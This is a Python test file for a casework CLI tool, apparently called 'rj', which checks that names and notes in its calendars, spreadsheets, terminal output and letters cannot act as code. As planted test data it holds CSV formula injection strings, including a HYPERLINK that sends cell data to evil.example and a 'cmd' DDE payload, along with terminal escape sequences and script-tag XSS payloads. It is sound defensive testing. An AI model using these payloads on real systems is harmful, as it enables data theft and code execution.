"""Output is inert (issue #14): what rj writes carries no one's record text where it
should not, and record text cannot act as a formula, a terminal command, Rich markup,
HTML or Markdown. Each test plants the attack the issue quotes and reads what a user
would get: the calendar file, the CSV/XLSX cells, the terminal bytes, the letter."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import CasebookUnderTest, invoke

SAMPLE = Path(__file__).resolve().parent.parent / "sample-casebook"
SAMPLE_TODAY = "2026-06-15"

NAME_KEYS = ("name", "label")
"""Keys whose values name a victim, child, parent or representative in a record."""
FREE_TEXT_KEYS = ("action", "note", "purpose", "further_action", "reason", "text",
                  "description", "summary", "need", "what", "how", "venue")
"""Keys of free text written by a worker (agreement actions, notes, purposes...)."""


def _strings(value: Any, key: str | None = None) -> Iterator[tuple[str | None, str]]:
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _strings(v, str(k))
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v, key)
    elif isinstance(value, str):
        yield key, value


def sample_private_texts() -> tuple[set[str], set[str]]:
    """(every name and name part, every longer free text) in the sample's records."""
    names: set[str] = set()
    texts: set[str] = set()
    for path in sorted(SAMPLE.glob("*/*.yaml")):
        for key, value in _strings(yaml.safe_load(path.read_text(encoding="utf-8"))):
            if key in NAME_KEYS and not re.fullmatch(r"Victim \d+", value):
                names.add(value)
                names.update(part for part in value.split() if len(part) >= 3)
            elif key in FREE_TEXT_KEYS and len(value) >= 12:
                texts.add(" ".join(value.split()))
    return names, texts


def unfolded(ics: bytes) -> str:
    """The calendar's text with RFC 5545 line folding and text escapes undone."""
    text = ics.decode("utf-8").replace("\r\n ", "").replace("\r\n", "\n")
    return text.replace("\\,", ",").replace("\\;", ";").replace("\\n", "\n")


# --- calendars carry the case id and the instruction only --------------------------------


@pytest.mark.parametrize("within", [None, "1000"], ids=["default", "everything-due"])
def test_the_sample_calendar_holds_no_name_and_no_record_text(tmp_path: Path,
                                                                within: str | None) -> None:
    book = tmp_path / "sample"
    shutil.copytree(SAMPLE, book, ignore=shutil.ignore_patterns(".rj", "output"))
    target = tmp_path / "due.ics"
    args = ["due", "--all", "--ics", str(target)] + (["--within", within] if within else [])
    result = invoke(*args, casebook=book, today=SAMPLE_TODAY, worker=None)
    assert result.exit_code == 0, result.output
    calendar = unfolded(target.read_bytes())
    assert calendar.count("BEGIN:VEVENT") >= 5
    names, texts = sample_private_texts()
    assert len(names) > 40 and len(texts) > 50  # the test reads the sample, not nothing
    leaked = sorted(n for n in names if re.search(rf"\b{re.escape(n)}\b", calendar))
    assert leaked == []
    leaked = sorted(t for t in texts if t[:40] in " ".join(calendar.split()))
    assert leaked == []
    # each event still says which case and what to do, from the policy
    assert "SUMMARY:V-0009: Give the victim the update on the child's progress" in calendar
    assert "Wokingham 5" in calendar


# --- spreadsheets: a formula in a name is text ------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
"""The issue's reproduction: a worker named as a live formula."""
OTHER_FORMULAS = ("@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3")


@pytest.fixture
def formula_book(casebook: CasebookUnderTest) -> CasebookUnderTest:
    """Staff named as formulas, one owning the fixture victim (a hand edit: the form
    a teammate's sync or an editor can bring)."""
    for name in (FORMULA, *OTHER_FORMULAS):
        result = casebook.run("staff", "add", "--role", "rj-worker", "--", name)
        assert result.exit_code == 0, result.output
    text = casebook.text(casebook.victim)
    assert "worker: Sam Worker" in text
    casebook.write(casebook.victim, text.replace(
        "worker: Sam Worker", "worker: '" + FORMULA.replace("'", "''") + "'"))
    return casebook


def test_a_formula_in_a_name_is_text_in_the_csv_report(formula_book: CasebookUnderTest,
                                                        tmp_path: Path) -> None:
    import csv

    target = tmp_path / "caseload.csv"
    result = formula_book.run("report", "caseload", "--format", "csv", "--out", str(target))
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(target.open(encoding="utf-8", newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells  # shown as written, starting with a quote
    for formula in OTHER_FORMULAS:
        assert "'" + formula in cells
    live = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
            or (c.startswith("-") and not re.fullmatch(r"-|-\d+(\.\d+)?%?", c))]
    assert live == []
    # rj's own figures stay as they were: counts are numbers, a figure not shown is "-"
    values = [row[6] for row in rows[1:]]
    assert "-" in values and all(re.fullmatch(r"-|<5|\d+(\.\d+)?%?", v) for v in values)


def test_a_formula_in_a_name_is_text_in_the_excel_report(formula_book: CasebookUnderTest,
                                                          tmp_path: Path) -> None:
    import zipfile

    from openpyxl import load_workbook

    target = tmp_path / "caseload.xlsx"
    result = formula_book.run("report", "caseload", "--format", "xlsx", "--out", str(target))
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(target) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula cell
    book = load_workbook(target)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    formula_cells = [c for c in cells if c.value == FORMULA]
    assert formula_cells and all(c.data_type == "s" and c.quotePrefix for c in formula_cells)
    assert any(isinstance(c.value, int) for c in cells)  # counts are still numbers


# --- terminals: record text cannot move the cursor, retitle the window or forge a row -----

FORGED = "2026-04-01  overdue 9 working days  V-9999  Forged row"
HOSTILE_NAME = ("Evil\\e]0;pwned\\a\\e[2J\\n" + FORGED
                + " [red]loud[/red] [link=http://evil.example]click[/link]")
"""A name as a hand edit or a sync can bring it (YAML double-quoted escapes): an OSC
window title, a clear-screen, a newline and a forged due row, and Rich markup."""
HOSTILE_NOTE = "Rang.\x1b[2J\x1b]8;;http://evil.example\x07here\x1b]8;;\x07 \x9b31m[bold]x[/bold]"


@pytest.fixture
def hostile_book(casebook: CasebookUnderTest) -> CasebookUnderTest:
    result = casebook.run("contact", "log", casebook.child, "--method", "phone",
                          "--outcome", "spoke", "--at", "2026-04-01 10:00",
                          "--note", HOSTILE_NOTE, "--with", "case-holder")
    assert result.exit_code == 0, result.output
    text = casebook.text(casebook.victim)
    assert "name: Ann Example" in text
    casebook.write(casebook.victim, text.replace("name: Ann Example",
                                                 f'name: "{HOSTILE_NAME}"'))
    return casebook


@pytest.mark.parametrize("command", [["due"], ["due", "--all"], ["list", "victims"],
                                     ["list"], ["show", "{v}"], ["explain", "{v}"],
                                     ["timeline", "{v}"], ["show", "{c}"],
                                     ["timeline", "{c}"]], ids=" ".join)
def test_record_text_reaches_the_terminal_inert(hostile_book: CasebookUnderTest,
                                                command: list[str]) -> None:
    args = [a.format(v=hostile_book.victim, c=hostile_book.child) for a in command]
    result = hostile_book.run(*args, env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    shown = result.stdout
    assert ("Rang." if "{c}" in command else "Evil") in shown  # the record is shown...
    bad = sorted({f"U+{ord(c):04X}" for c in shown
                  if (ord(c) < 32 and c != "\n") or 0x7f <= ord(c) <= 0x9f})
    assert bad == []  # ...with no control character left to act on the terminal
    for line in shown.splitlines():  # and nothing the name holds starts a line of its own
        assert not line.startswith("2026-04-01  overdue 9"), shown
        if "Forged" in line:
            assert hostile_book.victim in line or "Evil" in line, shown
    if command[0] != "due" and "{c}" not in command:  # (rj due cuts the name short)
        assert "[red]loud[/red] [link=http://evil.example]" in shown  # printed, not obeyed


def test_the_contact_note_is_shown_inert(hostile_book: CasebookUnderTest) -> None:
    result = hostile_book.run("show", hostile_book.child, env={"COLUMNS": "400"})
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "[bold]x[/bold]" in result.stdout


def test_a_cut_name_in_due_leaves_no_escape_open(casebook: CasebookUnderTest) -> None:
    text = casebook.text(casebook.victim)
    # the cut at 20 characters falls inside the colour sequence
    casebook.write(casebook.victim, text.replace(
        "name: Ann Example", 'name: "Annabel Exampleton\\e[31;1;4;5;7m and the rest"'))
    result = casebook.run("due")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout
    assert "Annabel Exampleton[" in result.stdout


def test_a_long_listing_in_plain_text_is_inert(hostile_book: CasebookUnderTest,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    from rjcli.render import records

    monkeypatch.setattr(records, "PLAIN_FROM", 0)  # the layout used from 200 records on
    result = hostile_book.run("list", "victims")
    assert result.exit_code == 0, result.output
    assert "Evil" in result.stdout and "\x1b" not in result.stdout
    assert not any(line.startswith("2026-04-01") for line in result.stdout.splitlines())
    assert "[red]loud[/red]" in result.stdout


# --- names and ids refuse control characters on input -----------------------------------

@pytest.mark.parametrize(("args", "option"), [
    (["victim", "new", "--name", "Ann\x1b[2JExample"], "--name"),
    (["victim", "new", "--name", "Ann Example\n" + FORGED], "--name"),
    (["victim", "new", "--name", "Lee Young", "--kind", "under-18",
      "--parent", "Pat\rParent"], "--parent"),
    (["victim", "new", "--name", "Shop Ltd", "--kind", "corporate",
      "--representative", "Max\x9bManager"], "--representative"),
    (["victim", "new", "--name", "Ann Example", "--worker", "Sam Worker\x07"], "--worker"),
    (["child", "new", "--name", "Kit\tChild"], "--name"),
    (["child", "new", "--name", "Kit Child", "--case-holder", "Pat\x1b]0;x\x07"],
     "--case-holder"),
    (["child", "new", "--name", "Kit Child", "--parent", "Lou\u2028Parent"], "--parent"),
    (["staff", "add", "Jo\nWorker", "--role", "rj-worker"], "the name"),
    # invisible characters: a bidi override shows a name backwards, a zero-width space or
    # soft hyphen makes two names that look one
    (["victim", "new", "--name", "Ann \u202eelpmaxE"], "--name"),
    (["child", "new", "--name", "Kit Chi\u200bld"], "--name"),
    (["victim", "new", "--name", "Ann Ex\u00adample"], "--name"),
    (["child", "new", "--name", "Kit Child", "--parent", "Lou\u2066Parent"], "--parent"),
    (["staff", "add", "\ufeffJo Worker", "--role", "rj-worker"], "the name"),
    (["victim", "new", "--name", "Ann Example\u200f"], "--name"),
], ids=lambda v: v if isinstance(v, str) else " ".join([*v[:2], v[-1][:12]]))
def test_a_name_with_a_control_character_is_refused(casebook: CasebookUnderTest,
                                                   args: list[str], option: str) -> None:
    if args[:2] == ["victim", "new"]:
        args = [*args, "--child", casebook.child, "--consent-contact", "yes"]
    before = sorted(p.name for p in casebook.root.rglob("*.yaml"))
    config = (casebook.root / "rj.yaml").read_bytes()
    result = casebook.run(*args)
    assert result.exit_code != 0, result.output
    assert f"{option} holds a control character or line break" in result.output
    assert "a name is one line of plain text" in result.output
    assert sorted(p.name for p in casebook.root.rglob("*.yaml")) == before
    assert (casebook.root / "rj.yaml").read_bytes() == config


def test_the_worker_at_the_keyboard_is_one_line(casebook: CasebookUnderTest) -> None:
    result = casebook.run("list", worker="Sam Worker\n2026-04-01  overdue")
    assert result.exit_code != 0
    assert "--worker holds a control character or line break (U+000A)" in result.output


@pytest.mark.parametrize(("field", "line"), [("name", 3), ("worker", None)])
def test_check_names_a_control_character_in_a_hand_edited_name(
        casebook: CasebookUnderTest, field: str, line: int | None) -> None:
    text = casebook.text(casebook.victim)
    if field == "name":
        assert text.splitlines()[2] == "name: Ann Example"
        text = text.replace("name: Ann Example", 'name: "Ann\\e[2JExample"')
    else:
        text = text.replace("worker: Sam Worker", 'worker: "Sam\\nWorker"')
        line = next(n for n, s in enumerate(text.splitlines(), 1) if "worker: " in s)
    path = casebook.write(casebook.victim, text)
    result = casebook.run("check")
    assert result.exit_code == 1
    where = f"victims/{path.name}:{line}:"
    found = [s for s in result.output.splitlines() if s.startswith(where)]
    assert found and "a name is one line of plain text" in found[0], result.output


# --- Markdown and HTML letters and reports show record text as written -------------------

HOSTILE_LETTER_NAME = "Alex [x](http://evil.example) <script>alert(1)</script> *Example*"
HEADING_LINE = "# Heading"


@pytest.fixture
def letter_book(tmp_path: Path) -> Path:
    from test_letters import write_casebook

    book = write_casebook(tmp_path / "casebook")
    path = book / "victims" / "V-0001.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("name: Alex Example", f"name: '{HOSTILE_LETTER_NAME}'")
    text = text.replace("lines: [1 Example Road,", f"lines: ['{HEADING_LINE}', '- 1 Example Road',")
    path.write_text(text, encoding="utf-8")
    return book


def _html_of_markdown(text: str) -> str:
    """The Markdown as a viewer that allows HTML shows it."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(text)


@pytest.mark.parametrize("fmt", ["md", "txt", "html"])
def test_a_letter_shows_markup_in_a_name_as_written(letter_book: Path, fmt: str) -> None:
    from test_letters import draft

    from rjcli.render.letters import markdown_to_text

    text = draft(letter_book, "initial", "V-0001", fmt=fmt)
    page = _html_of_markdown(text) if fmt == "md" else text
    if fmt != "txt":
        assert not re.search(r"<script|<a |<h1|<em>Example", page), page
    shown = markdown_to_text(text) if fmt == "md" else text
    if fmt == "html":
        shown = re.sub(r"<[^>]+>", "", text).replace("&lt;", "<").replace("&gt;", ">")
        shown = shown.replace("&amp;", "&").replace("&quot;", '"').replace("&#39;", "'")
    assert HOSTILE_LETTER_NAME in shown
    assert HEADING_LINE in shown and "- 1 Example Road" in shown


MARKUP_WORKER = "[x](http://evil.example) <script>alert(1)</script> | *Sam*"


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_a_report_shows_markup_in_a_name_as_written(casebook: CasebookUnderTest,
                                                    tmp_path: Path, fmt: str) -> None:
    result = casebook.run("staff", "add", "--role", "rj-worker", "--", MARKUP_WORKER)
    assert result.exit_code == 0, result.output
    target = tmp_path / f"caseload.{fmt}"
    result = casebook.run("report", "caseload", "--format", fmt, "--out", str(target))
    assert result.exit_code == 0, result.output
    text = target.read_text(encoding="utf-8")
    page = _html_of_markdown(text) if fmt == "md" else text
    assert not re.search(r"<script|<a |<em>Sam", page), page
    # the row is one row of the table, its name whole, shown as written
    row = next(line for line in page.splitlines() if "evil.example" in line)
    assert "[x](http://evil.example) &lt;script&gt;alert(1)&lt;/script&gt; | *Sam*" in row


def test_a_subject_access_account_shows_markup_in_the_record_as_written(
        casebook: CasebookUnderTest, tmp_path: Path) -> None:
    note = "Rang.\n# Not a heading\n<img src=x onerror=alert(1)> [x](http://evil.example)"
    result = casebook.run("contact", "log", casebook.victim, "--method", "phone",
                          "--outcome", "spoke", "--at", "2026-04-01 10:00", "--note", note)
    assert result.exit_code == 0, result.output
    out = tmp_path / "sar"
    result = casebook.run("export", casebook.victim, "--out", str(out))
    assert result.exit_code == 0, result.output
    account = (out / f"{casebook.victim}.md").read_text(encoding="utf-8")
    page = _html_of_markdown(account)
    assert not re.search(r"<img|<a |<h1>Not", page), page
    assert "# Not a heading" in page and "[x](http://evil.example)" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_a_name_with_rich_markup_is_confirmed_as_written(casebook: CasebookUnderTest) -> None:
    name = "Ann [nee Smith] [red]Red[/red] [link=http://evil.example]x[/link]"
    result = casebook.run("victim", "new", "--name", name, "--child", casebook.child,
                          "--consent-contact", "yes")
    assert result.exit_code == 0, result.output
    assert f"for {name}, allocated to" in result.output
    result = casebook.run("staff", "add", "--role", "rj-worker", "--", name)
    assert f"{name} is on the staff list" in result.output
    assert name in casebook.run("staff", "list").output


# --- the inert-text functions themselves ---------------------------------------------------

ORDINARY = ["Ann Example", "Siobhán O'Brien-Smith", "St. John's Court", "Flat 3, 7 Elm Way",
            "+44 7700 900001", "07700 900001", "ann.example@example.org", "12.5 hours",
            "2026-04-01", "Smith & Sons Ltd", "Mr J. Example (Jo)", "#hashtag", "-3", "1 May"]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    from rjcli.core.text import markdown_literal, printable, spreadsheet_text

    assert markdown_literal(text) == text  # so letters for ordinary names do not change
    assert markdown_literal(text, html_escaped_after=True) == text
    assert printable(text) == text
    if not text.startswith("+"):  # "+44 7700 900001" would be a formula (#NULL!) in Excel
        assert spreadsheet_text(text) == text


@pytest.mark.parametrize(("value", "cell"), [
    (FORMULA, "'" + FORMULA), ("+1+1", "'+1+1"), ("-1+A1", "'-1+A1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "' =1"), ("\r=1", "'=1"), ("a\x1b[2J", "a[2J"), ("-", "-"), ("-3", "-3"),
    ("-12.5%", "-12.5%"),
    ("+44", "+44"), ("<5", "<5")])
def test_a_spreadsheet_cell_that_would_run_starts_with_a_quote(value: str, cell: str) -> None:
    from rjcli.core.text import spreadsheet_text

    assert spreadsheet_text(value) == cell


MARKDOWN_PIECES = st.sampled_from([
    *"#*_[]()<>!`~|&;=-+.)0123456789 \\ab:/\"'{}^$%@\t", "&amp;", "&#35;", "http://x.y",
    "<a>", "](", "\n"])


def _inline_text(source: str) -> str:
    """The text of a one-paragraph Markdown document; fails if anything else formed."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark", {"html": True}).parse(source)
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], source
    children = tokens[1].children or []
    assert all(c.type == "text" for c in children), (source, [c.type for c in children])
    return "".join(c.content for c in children)


@settings(max_examples=300, deadline=None)
@given(st.lists(MARKDOWN_PIECES, min_size=1, max_size=20).map("".join)
       .filter(lambda t: t.strip() != "" and "\n" not in t.strip()))
def test_markdown_shows_any_text_as_written(text: str) -> None:
    from markupsafe import escape

    from rjcli.core.text import markdown_literal

    assert _inline_text(markdown_literal(text)).strip() == text.strip()
    html = str(escape(markdown_literal(text, html_escaped_after=True)))
    assert _inline_text(html).strip() == text.strip()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_control_character_in_a_name_reaches_no_spreadsheet(casebook: CasebookUnderTest,
                                                              tmp_path: Path, fmt: str) -> None:
    from openpyxl import load_workbook

    text = casebook.text(casebook.victim)  # a hand edit: rj check flags it, reports go on
    casebook.write(casebook.victim, text.replace("worker: Sam Worker",
                                                 'worker: "Sam\\e[2J\\tWorker"'))
    target = tmp_path / f"caseload.{fmt}"
    result = casebook.run("report", "caseload", "--format", fmt, "--out", str(target))
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        cells = target.read_text(encoding="utf-8")
    else:
        cells = " ".join(str(c.value) for sheet in load_workbook(target)
                         for row in sheet.iter_rows() for c in row)
    assert "\x1b" not in cells and "\t" not in cells
    assert "Sam[2J Worker" in cells


@pytest.mark.parametrize("instance, kept", [
    ("V-0014:record-appointment:01KT6H4ZK08GRRZ847K444RQZW", True),
    ("C-4HX9TD:child-first-contact:sentence", True),
    ("V-0010:progress-update:2026-06-05", True),
    ("V-0014:record-appointment:Sarah Smith 07700 900999 at 1 High St", False),
    ("V-0014:record-appointment:SarahSmith", False),
])
def test_a_hand_typed_entry_id_never_reaches_a_calendar_uid(instance: str, kept: bool) -> None:
    """An entry id edited by hand into a name and phone (hostile test, issue 14) is hashed
    in the event's UID; a key of ids alone is kept as it was (re-imports still update)."""
    from rjcli.render.due import event_uid

    uid = event_uid(instance)
    assert uid == event_uid(instance)  # stable across runs
    if kept:
        assert uid == instance.replace(":", "-") + "@rj"
    else:
        assert "Sarah" not in uid and "07700" not in uid and "High" not in uid
